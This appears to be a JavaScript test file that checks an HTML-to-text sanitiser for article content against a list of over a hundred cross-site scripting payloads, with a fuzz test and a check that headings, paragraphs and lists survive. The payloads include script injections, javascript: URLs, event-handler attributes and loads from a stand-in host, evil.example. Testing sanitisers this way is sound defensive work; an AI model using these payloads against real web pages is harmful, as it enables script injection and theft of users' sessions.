import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { articleBlocks } from './article-html.js';

const CALL = 'alert(1)';
const EVENTS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onstart', 'onanimationend', 'onpointerenter', 'onbeforeprint'];
const CARRIERS = [
  ['<img src=x ', '>'], ['<svg ', '></svg>'], ['<body ', '>'], ['<video><source ', '></video>'], ['<details open ', '>x</details>'], ['<input autofocus ', '>'], ['<marquee ', '>x</marquee>'],
  ['<math><mtext ', '></math>'],
] as const;
const SINGLE = [
  `<script>${CALL}</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<script/x>${CALL}</script>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<a href="javascript:${CALL}">x</a>`,
  `<a href="jav&#x09;ascript:${CALL}">x</a>`, `<iframe src="javascript:${CALL}"></iframe>`, `<iframe srcdoc="&lt;script&gt;${CALL}&lt;/script&gt;"></iframe>`, `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`, `<form action="javascript:${CALL}"><button>x</button></form>`, `<base href="javascript:${CALL}//">`, `<link rel=stylesheet href=//evil.example>`, `<style>@import'//evil.example'</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<math><mi//xlink:href="data:x,<script>${CALL}</script>">`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`, `<!--><img src=x onerror=${CALL}>-->`, `<![CDATA[<script>${CALL}</script>]]>`,
  `<template><script>${CALL}</script></template>`, `<textarea></textarea><img src=x onerror=${CALL}>`, `<xmp><img src=x onerror=${CALL}></xmp>`, `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${CALL}&amp;gt;<p>x</p>`, `<p>&lt;img src=x onerror=${CALL}&gt;</p>`, `<div style="background:url(javascript:${CALL})">x</div>`, `<select><noembed></select><script>${CALL}</script>`,
  `<p><!-- x --!><script>${CALL}</script></p>`, `<table background="javascript:${CALL}"><tr><td>x</td></tr></table>`, `<isindex type=image src=1 onerror=${CALL}>`, `<web-view src="https://evil.example"></web-view>`,
];
const PAYLOADS = [...SINGLE, ...CARRIERS.flatMap(([before, after]) => EVENTS.map((event) => `${before}${event}=${CALL}${after}`))];

describe('what was typed or pasted', () => {
  it(`loses all mark-up: ${PAYLOADS.length} known attacks leave words at most`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(100);
    const survivors = PAYLOADS.flatMap((payload) => [payload, `<p>开头</p>${payload}<p>结尾</p>`, `# 标题\n${payload}`]).filter((text) =>
      articleBlocks(text).some((block) => /<\/?[a-z!?]/i.test(block.text) || Object.keys(block).sort().join() !== 'kind,text'));
    expect(survivors).toEqual([]);
  });

  it('leaves nothing of mark-up whatever is put together of it', () => {
    const scrap = fc.constantFrom('<', '>', '</', '&lt;', '&amp;', 'script', 'img src=x', ' onerror=', '"', "'", '<!--', '-->', 'p', ' ', '\n', '学习', '<svg', '/>');
    fc.assert(fc.property(fc.array(scrap, { maxLength: 30 }).map((parts) => parts.join('')), (text) => {
      expect(articleBlocks(text).filter((block) => /<\/?[a-z!?]/i.test(block.text))).toEqual([]);
    }), { numRuns: 2000 });
  });

  it('keeps paragraphs, headings, quotations, items and words', () => {
    const pasted = '<section><h2>学习体会</h2><p>第一段&nbsp;文字，<strong>加粗</strong>也在。</p><blockquote><p>引文</p></blockquote><ul><li>其一</li><li>其二</li></ul>上行<br>下行 3 &lt; 5</section>';
    expect(articleBlocks(pasted)).toEqual([
      { kind: 'heading', text: '学习体会' }, { kind: 'text', text: '第一段 文字，加粗也在。' }, { kind: 'quote', text: '引文' }, { kind: 'item', text: '其一' }, { kind: 'item', text: '其二' },
      { kind: 'text', text: '上行' }, { kind: 'text', text: '下行 3 < 5' },
    ]);
    expect(articleBlocks('1 < 2，且 3 > 2')).toEqual([{ kind: 'text', text: '1 < 2，且 3 > 2' }]);
  });
});
